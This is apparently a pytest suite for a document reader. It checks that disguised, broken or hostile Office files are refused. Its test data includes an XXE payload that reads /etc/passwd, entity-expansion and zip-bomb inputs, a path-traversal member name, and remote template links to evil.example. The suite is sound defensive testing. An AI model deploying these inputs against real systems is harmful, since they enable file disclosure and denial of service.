"""Files that are not what they seem, are broken, or mean harm: each is told apart and refused in plain words."""

from __future__ import annotations

import random
import struct
import time
import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from raw_office import (
    MAIN,
    NAMES,
    OFFICE,
    RELATIONS,
    SHEET_TYPE,
    SHEETS,
    WORD_TYPE,
    content_types,
    docx,
    p,
    relationships,
    word_parts,
    xlsx,
    xlsx_parts,
    zipped,
)  # fmt: skip

from toolkit import libreoffice
from toolkit.errors import FAULTS, Exit, Refused
from toolkit.reading import read
from toolkit.reading.screen import MAX_BYTES

GOOD = docx(p("好文件"))
DTD = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'
BODY = f"<w:document {NAMES}><w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:body></w:document>"
NOISE = random.Random(7).randbytes(4096)


def compound(*streams: str, heads: dict[str, bytes] | None = None) -> bytes:
    """An old container with these entries in its directory; `heads` are the first bytes of their streams."""
    directory, body = b"", b""
    for number, name in enumerate(streams):
        words = name.encode("utf-16-le")
        entry = (
            words.ljust(64, b"\0") + struct.pack("<H", len(words) + 2) + bytes(50) + struct.pack("<L", number)
        )
        directory += entry.ljust(128, b"\0")
        body += (heads or {}).get(name, b"").ljust(512, b"\0")
    header = bytearray(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(512, b"\0"))
    header[30] = 9
    return bytes(header) + body + directory


def with_part(**parts: str | bytes) -> bytes:
    """A Word file with parts put in or replaced; `__` in a name is a slash, a leading one an underscore."""
    return zipped(word_parts(p("字")) | {name.replace("__", "/"): content for name, content in parts.items()})


def word_with(name: str, content: str | bytes) -> bytes:
    return zipped(word_parts(p("字")) | {name: content})


def main_type(content_type: str, folder: str = "word") -> bytes:
    main = f"{folder}/document.xml"
    return zipped({
        "[Content_Types].xml": content_types(main, content_type),
        "_rels/.rels": relationships(officeDocument=main),
        main: f"<w:document {NAMES}/>",
    })  # fmt: skip


def broken_checksum() -> bytes:
    data = bytearray(GOOD)
    with ZipFile(BytesIO(GOOD)) as package:
        place = package.getinfo("word/document.xml").header_offset + 60
    data[place] ^= 0xFF
    return bytes(data)


def encrypted_zip() -> bytes:
    data = bytearray(zipped({"a.docx": "x"}))
    data[6] |= 1
    data[data.rindex(b"PK\1\2") + 8] |= 1
    return bytes(data)


def strange_method() -> bytes:
    data = bytearray(GOOD)
    start = 0
    while (start := data.find(b"PK\1\2", start + 1)) > 0:
        data[start + 10 : start + 12] = struct.pack("<H", 99)
    return bytes(data)


def twice() -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as package:
        for name, content in word_parts(p("一")).items():
            package.writestr(name, content)
        package.writestr("Word/Document.xml", word_parts(p("二"))["word/document.xml"])
    return out.getvalue()


def lying_size() -> bytes:
    """A member that inflates to more than the directory says."""
    data = bytearray(GOOD)
    start = data.rindex(b"PK\1\2")
    data[start + 24 : start + 28] = struct.pack("<L", 5)
    return bytes(data)


def sheet_xml(rows: str) -> str:
    return f"<worksheet {MAIN}><sheetData>{rows}</sheetData></worksheet>"


def big_sheet(content: str) -> bytes:
    return zipped(xlsx_parts("") | {"xl/worksheets/sheet1.xml": content})


def many_texts() -> bytes:
    return zipped(
        xlsx_parts("") | {"xl/sharedStrings.xml": f"<sst {MAIN}>{'<si><t>a</t></si>' * 400_000}</sst>"}
    )


CASES: dict[str, tuple[str, object]] = {
    "nothing": ("empty", b""),
    "too many bytes": ("too-big", lambda: b"PK\3\4" + bytes(MAX_BYTES)),
    "half a file": ("incomplete", GOOD[: len(GOOD) // 2]),
    "all but the last byte": ("incomplete", GOOD[:-30]),
    "only the beginning": ("incomplete", GOOD[:4]),
    "zeros": ("incomplete", bytes(4096)),
    "one byte changed": ("incomplete", broken_checksum),
    "a member longer than it says": ("incomplete", lying_size),
    "a protected office file": ("password", compound("EncryptionInfo", "EncryptedPackage")),
    "a protected old Word file": (
        "password", compound("WordDocument", heads={"WordDocument": b"\xec\xa5" + bytes(8) + b"\0\1"})
    ),
    "a protected old workbook": (
        "password", compound("Workbook", heads={"Workbook": struct.pack("<HH4sHH", 0x809, 4, b"", 0x2F, 2)})
    ),
    "a protected zip": ("zip-password", encrypted_zip),
    "a zip packed some other way": ("zip-method", strange_method),
    "two parts of one name": ("zip-twice", twice),
    "an old Word file": ("old-format", compound("1Table", "WordDocument")),
    "an old workbook": ("old-format", compound("Workbook")),
    "a very old workbook": ("old-format", compound("Book")),
    "rich text": ("old-format", rb"{\rtf1\ansi hello}"),
    "an old Word file with macros": ("macros", compound("WordDocument", "_VBA_PROJECT")),
    "an old presentation": ("is-slides", compound("PowerPoint Document")),
    "some other old file": ("is-unknown", compound("__properties_version1.0")),
    "a PDF": ("is-pdf", b"%PDF-1.7\n%\xe2\xe3"),
    "a PDF behind rubbish": ("is-pdf", b"\n\n%PDF-1.4"),
    "a PNG": ("is-image", b"\x89PNG\r\n\x1a\n" + NOISE),
    "a JPEG": ("is-image", b"\xff\xd8\xff\xe0" + NOISE),
    "a GIF": ("is-image", b"GIF89a" + NOISE),
    "a TIFF": ("is-image", b"II*\0" + NOISE),
    "a WebP": ("is-image", b"RIFF\0\0\0\0WEBPVP8 "),
    "a photograph of a telephone": ("is-image", b"\0\0\0\x18ftypheic" + NOISE),
    "a bitmap": ("is-image", b"BM" + struct.pack("<L", 60) + bytes(range(54))),
    "a web page": ("is-html", "\ufeff\n<!DOCTYPE HTML><html><body>表</body></html>".encode()),
    "a table of a web system called xls": ("is-html", "<table><tr><td>姓名</td></tr></table>".encode("gb18030")),
    "a web page in UTF-16": ("is-html", "<html>表</html>".encode("utf-16")),
    "a saved web archive": ("is-html", b"MIME-Version: 1.0\r\nContent-Type: multipart/related"),
    "a Word file of 2003 in XML": ("is-xml", b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w/>'),
    "a RAR archive": ("is-archive", b"Rar!\x1a\7\0" + NOISE),
    "a 7z archive": ("is-archive", b"7z\xbc\xaf\x27\x1c" + NOISE),
    "a gzip file": ("is-archive", b"\x1f\x8b\x08" + NOISE),
    "an ordinary zip": ("is-archive", zipped({"张三.docx": GOOD, "照片.jpg": NOISE})),
    "an empty zip": ("is-archive", zipped({})),
    "an OFD": ("is-ofd", zipped({"OFD.xml": "<a/>", "Doc_0/Document.xml": "<a/>"})),
    "an OpenDocument text": ("is-odf", zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"})),
    "an OpenDocument table": (
        "is-odf", zipped({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<a/>"})
    ),
    "an e-book": ("is-archive", zipped({"mimetype": "application/epub+zip"})),
    "a presentation": ("is-slides", main_type("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", "ppt")),
    "a binary workbook": ("is-binary-sheet", main_type("application/vnd.ms-excel.sheet.binary.macroEnabled.main")),
    "a drawing": ("is-unknown", main_type("application/vnd.ms-visio.drawing.main+xml", "visio")),
    "a program": ("is-program", b"MZ\x90\0" + NOISE),
    "a program for Linux": ("is-program", b"\x7fELF\2\1\1" + NOISE),
    "a file under lock": ("is-locked", b"\x62\x14\x23\x65E-SafeNet\0LOCK" + NOISE),
    "a file under another lock": ("is-locked", b"%TSD-Header-###%" + NOISE),
    "noise": ("is-unknown", NOISE),
    "a text with a hole": ("is-unknown", "文字".encode() + bytes(100) + "文字".encode()),
    "bytes of no encoding": ("text-encoding", b"\xe6\x96\x87\xff\xff\x81 text" * 20),
    "a macro type": ("macros", main_type("application/vnd.ms-word.document.macroEnabled.main+xml")),
    "a macro type for workbooks": ("macros", main_type("application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
    "macros under an honest type": ("macros", word_with("word/vbaProject.bin", NOISE)),
    "a sheet of old macros": ("macros", word_with("xl/macrosheets/sheet1.xml", "<a/>")),
    "an outside entity": ("dtd", word_with("word/document.xml", DTD + BODY)),
    "an inner entity": ("dtd", word_with("word/document.xml", '<!DOCTYPE a [<!ENTITY b "c">]>' + BODY)),
    "entities within entities": (
        "dtd", word_with("word/document.xml", '<!DOCTYPE a [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]>' + BODY)
    ),
    "a parameter entity": ("dtd", word_with("word/document.xml", '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://x/"> %b;]>' + BODY)),
    "a document type in UTF-16": ("dtd", word_with("word/document.xml", f'<?xml version="1.0" encoding="UTF-16"?>{DTD}{BODY}'.encode("utf-16"))),
    "a document type in a part nobody reads": ("dtd", word_with("customXml/item1.xml", DTD + "<a/>")),
    "a document type among the pointers": ("dtd", word_with("word/_rels/document.xml.rels", DTD + relationships())),
    "a document type among the types": ("dtd", word_with("[Content_Types].xml", DTD + content_types("word/document.xml", WORD_TYPE))),
    "broken XML": ("xml-broken", word_with("word/document.xml", "<w:document><w:body>")),
    "broken XML among the types": ("xml-broken", word_with("[Content_Types].xml", "<Types")),
    "broken XML in a long sheet": ("xml-broken", lambda: big_sheet(sheet_xml("<row><c></row>" + "<row><c><v>1</v></c></row>" * 200_000))),
    "no main part": ("part-missing", zipped({"[Content_Types].xml": content_types("a.xml", WORD_TYPE)})),
    "a main part that is not there": (
        "part-missing",
        zipped({"[Content_Types].xml": content_types("word/document.xml", WORD_TYPE), "_rels/.rels": relationships(officeDocument="word/document.xml")}),
    ),
    "a main part outside": (
        "part-missing",
        zipped({
            "[Content_Types].xml": content_types("word/document.xml", WORD_TYPE),
            "_rels/.rels": f'<Relationships xmlns="{OFFICE}/package/2006/relationships"><Relationship Id="a" '
            f'Type="{RELATIONS}/officeDocument" Target="http://x/" TargetMode="External"/></Relationships>',
        }),
    ),
    "far too many members": ("bomb", lambda: zipped({f"{n}.xml": "" for n in range(2001)})),
    "a part of a hundred megabytes": ("bomb", lambda: word_with("word/media/a.bin", bytes(101 * 2**20))),
    "a part squeezed a thousandfold": ("bomb", lambda: word_with("word/media/a.bin", bytes(20 * 2**20))),
    "too much XML": ("bomb", lambda: word_with("word/a.xml", bytes(51 * 2**20))),
    "paragraphs without end": ("too-long", lambda: docx("<w:p/>" * 1_000_000)),
    "shared texts without end": ("too-long", many_texts),
    "lines without end": ("too-long", lambda: "字\n".encode() * 50_001),
    "a text as long as a library": ("too-long", lambda: "字".encode() * 2_000_000),
    "attributes without end": ("too-long", lambda: docx('<w:p a="" b="" c="" d=""/>' * 150_000)),
}  # fmt: skip


@pytest.fixture(autouse=True)
def _without_libreoffice(monkeypatch):
    monkeypatch.setattr(libreoffice, "find_program", lambda: None)


@pytest.mark.parametrize(("code", "data"), CASES.values(), ids=CASES.keys())
def test_each_is_refused_by_its_own_code_and_the_next_file_is_read(code, data):
    data = data() if callable(data) else data
    start = time.process_time()
    with pytest.raises(Refused) as refused:
        read(data, "党性分析报告.docx")
    assert refused.value.code == code
    assert time.process_time() - start < 2
    assert read(GOOD, "好.docx").rows[0].cells[0].text == "好文件"


@pytest.mark.parametrize("code", sorted({code for code, _ in CASES.values()}))
def test_each_refusal_says_in_chinese_what_to_do(code):
    fault = FAULTS[code]
    assert fault.exit is Exit.UNREADABLE
    assert fault.sentence.endswith("。")
    assert fault.advice.startswith("请")


def test_the_old_formats_are_called_by_their_names():
    for name, kind in (
        ("表.wps", "WPS 文字"),
        ("表.et", "WPS 表格"),
        ("表.doc", "Word"),
        ("改名.docx", "Word .doc"),
    ):
        with pytest.raises(Refused, match="old-format") as refused:
            read(compound("WordDocument"), name)
        assert kind in str(refused.value)


SUFFIXES = ["表.docx", "表.xlsx", "表.txt", "表.pdf", "表.doc", "表", "表.jpg"]


@pytest.mark.parametrize("name", SUFFIXES)
def test_the_name_decides_nothing(name):
    assert read(GOOD, name).kind == "word"
    assert read(xlsx('<row r="1"><c r="A1"><v>1</v></c></row>'), name).kind == "excel"
    assert read("文字".encode(), name).kind == "plain"


@pytest.mark.parametrize(
    ("kind", "target", "found"),
    [
        ("image", "http://evil.example/a.png", ["图片"]),
        ("oleObject", "file:///c:/a.xlsx", ["对象"]),
        ("attachedTemplate", "http://evil.example/a.dotm", ["模板"]),
        ("attachedTemplate", "\\\\evil.example\\a.dotm", ["模板"]),
        ("attachedTemplate", "file:///C:/Users/a/Normal.dotm", []),
        ("hyperlink", "http://example.com", []),
    ],
)
def test_what_a_file_fetches_from_outside_is_remarked_upon(kind, target, found):
    rels = (
        f'<Relationships xmlns="{OFFICE}/package/2006/relationships">'
        f'<Relationship Id="a" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    document = read(word_with("word/_rels/document.xml.rels", rels), "文.docx")
    assert [remark.found for remark in document.remarks if remark.code == "outside-link"] == found


def test_members_that_climb_out_of_the_package_are_merely_parts(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    read(word_with("../../escaped.xml", "<a/>"), "文.docx")
    assert list(tmp_path.iterdir()) == []


def test_a_content_type_that_says_nothing_is_made_up_for_by_the_main_part():
    assert read(main_type("application/xml"), "文.docx").kind == "word"
    assert (
        read(zipped(xlsx_parts("") | {"[Content_Types].xml": content_types("a", SHEET_TYPE)}), "a").kind
        == "excel"
    )


def test_crc_of_the_tests_own_making_is_right():
    """The broken-checksum case must fail for its checksum, not for a slip in this file."""
    with ZipFile(BytesIO(GOOD)) as package:
        info = package.getinfo("word/document.xml")
        assert zlib.crc32(package.read(info)) == info.CRC


SLOW = {
    "a heading of blanks": ("# 题" + " " * 400_000 + "x").encode(),
    "a heading of signs": ("# 题" + " #" * 200_000 + "x").encode(),
    "a prolog of instructions": word_with("word/document.xml", "<?a?>" * 100_000 + f"<w:document {NAMES}/>"),
    "a long defined name": zipped(
        xlsx_parts(
            '<row r="1"><c r="A1"><v>1</v></c></row>',
            book=f'{SHEETS}<definedNames><definedName name="_banwen_f_a">{"a" * 300_000}</definedName></definedNames>',
        )
    ),
    "a long number format": xlsx(
        '<row r="1"><c r="A1" s="0"><v>1</v></c></row>',
        styles=f'<numFmts><numFmt numFmtId="200" formatCode="{"[" * 200_000}"/></numFmts><cellXfs><xf numFmtId="200"/></cellXfs>',
    ),
    "merges that never end": xlsx('<row r="1"><c r="A1"><v>1</v></c></row>', "<mergeCell " * 1 + "x='1'" + " " * 300_000 + "/>"),
    "a column with a long name": xlsx(f'<row r="1"><c r="{"A" * 300_000}1"><v>1</v></c></row>'),
    "a number of a million digits": xlsx(f'<row r="1"><c r="A1"><v>{"9" * 1_000_000}</v></c></row>'),
    "a row of a million digits": xlsx(f'<row r="{"9" * 10_000}"><c><v>1</v></c></row>'),
    "deep tables": docx("<w:tbl><w:tr><w:tc>" * 60 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 60),
    "deep controls": docx(p("<w:sdt><w:sdtContent>" * 100 + "</w:sdtContent></w:sdt>" * 100)),
    "a hundred thousand fields": docx(p('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * 50_000)),
}  # fmt: skip


@pytest.mark.parametrize("data", SLOW.values(), ids=SLOW.keys())
def test_what_is_made_to_keep_us_busy_does_not(data):
    start = time.process_time()
    read(data, "文.md")
    assert time.process_time() - start < 2
